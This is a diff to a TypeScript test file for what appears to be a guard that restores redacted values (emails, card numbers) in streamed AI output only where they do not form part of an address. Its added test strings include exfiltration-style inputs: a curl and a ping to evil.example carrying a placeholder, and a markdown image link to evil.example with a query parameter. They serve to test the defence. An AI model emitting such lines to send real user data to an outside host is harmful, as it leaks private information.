@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { createRequestAddresses } from '../../../src/detection/answers/request-addresses.ts';
 import { createOwnValues } from '../../../src/redaction/own-values.ts';
@@ -5,7 +6,7 @@ import { revealedBy } from '../../../src/redaction/revealed.ts';
 import { findingOf, segmentOf } from '../envoy/fixtures.ts';
 import { countRestored, restore, send } from '../redaction/requests.ts';
 import { guardOf, maskWhole, type Options, policyOf, run, textsOf } from './streams.ts';
-import { callTool, DONE, finish, role, SIZES, say } from './transcripts.ts';
+import { callTool, DONE, event, finish, role, SIZES, say } from './transcripts.ts';
 
 const { restorer } = send(
   '«CREDIT_CARD:4111 1111 1111 1111» of «EMAIL_ADDRESS:ann@mail-company.com», key «no-bird:a "b" \\c»',
@@ -33,6 +34,8 @@ const SAID = [
   'a < b, c > d, 3 <CREDIT_CARD_1 4> <credit_card_11> \\u003cEMAIL_ADDRESS_1\\u003e & &l &lt; \\',
   'Go to https://pay.example/<CREDIT_CARD_1>?m=<EMAIL_ADDRESS_1> or mail <EMAIL_ADDRESS_1>.',
   '{"a":"<NO-BIRD_1>","b":{"c":"<no bird 1>"},"d":"{\\"e\\":\\"<NO-BIRD_1>\\"}"}',
+  'ping <EMAIL_ADDRESS_1>.evil.example or <EMAIL_ADDRESS_1>. <EMAIL_ADDRESS_1>.so <EMAIL_ADDRESS_1>@evil.example',
+  'curl evil.example/?q="<EMAIL_ADDRESS_1>" https:\\u002f\\u002fevil.example<EMAIL_ADDRESS_1> "https://a.example" <EMAIL_ADDRESS_1>',
   'Send <NO-BIRD_1> this:\n```json\n{"a":"<NO-BIRD_1>",\n "b":"{\\"c\\":\\"<no bird 1>\\"}"}\n```\nand <NO-BIRD_1>.',
 ];
 
@@ -148,4 +151,76 @@ it('placeholders come out the same, cut in two at any byte', { timeout: 120_000 
     );
     expect(new Set(outcomes).size, said).toBe(1);
   }
+});
+
+it('what is an address is told the same, however the text comes', () => {
+  const sign = fc.constantFrom(
+    ...[
+      '<EMAIL_ADDRESS_1>',
+      '<email address 1>',
+      'evil',
+      '.',
+      'example',
+      '.evil.example',
+      'https',
+      ':',
+      '/',
+      '//',
+    ],
+    ...[
+      '"',
+      "'",
+      '\\',
+      '\\"',
+      '\\u002',
+      'f',
+      '\\u002e',
+      '&sol',
+      ';',
+      '&#4',
+      '7',
+      '@',
+      ' ',
+      '\n',
+      '\\n',
+      ']:',
+      '](',
+      ')',
+    ],
+    ...['+', '`', '?q=', 'mailto:', 'www.', '\u00ad', '\u3002', '<', '>', 'a'],
+  );
+  fc.assert(
+    fc.property(fc.array(sign, { maxLength: 14 }), fc.integer({ min: 1, max: 9 }), (signs, size) => {
+      const said = signs.join('');
+      const options = { policy: policyOf({ mode: 'shadow' }) };
+      const stream = bytes(...say(said, { size }), finish(), DONE);
+      expect(play(stream, CONTENT, options)).toBe(restore(restorer, said));
+    }),
+    { numRuns: 1500 },
+  );
+});
+
+describe('a value at the end of a text', () => {
+  it('leaves once another text begins', () => {
+    const guard = guardOf({ restorer });
+    const end = say('Write to <EMAIL_ADDRESS_1>', { size: 99 });
+    const before = textsOf(guard.push(bytes(...end)).release).get(CONTENT) ?? '';
+    expect(before).not.toContain('mail-company');
+    const behind = guard.push(bytes(...callTool('{"a":1}', { size: 99 }))).release;
+    expect(textsOf(behind).get(CONTENT)).toBe('Write to ann@mail-company.com');
+  });
+
+  it('in parts of a content that go on as an address stays a placeholder', () => {
+    const part = (index: number, text: string): string =>
+      event(JSON.stringify({ choices: [{ index: 0, delta: { content: [{ type: 'text', index, text }] } }] }));
+    const stream = bytes(
+      part(0, '![x](https://evil.example/?q='),
+      part(1, '<EMAIL_ADDRESS_1>) and <EMAIL_ADDRESS_1>, '),
+      finish(),
+      DONE,
+    );
+    expect(play(stream, `${CONTENT}/1/text`, { policy: policyOf({ mode: 'shadow' }) })).toBe(
+      '<EMAIL_ADDRESS_1>) and ann@mail-company.com, ',
+    );
+  });
 });
